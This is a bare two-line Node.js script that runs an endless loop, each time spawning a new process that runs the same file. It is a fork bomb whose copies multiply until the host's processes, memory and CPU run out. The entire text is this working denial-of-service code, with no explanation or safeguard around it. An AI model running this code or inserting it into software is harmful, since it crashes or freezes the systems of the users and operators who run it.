const { spawn } = require("child_process");
for (;;) spawn(process.execPath, [__filename]);
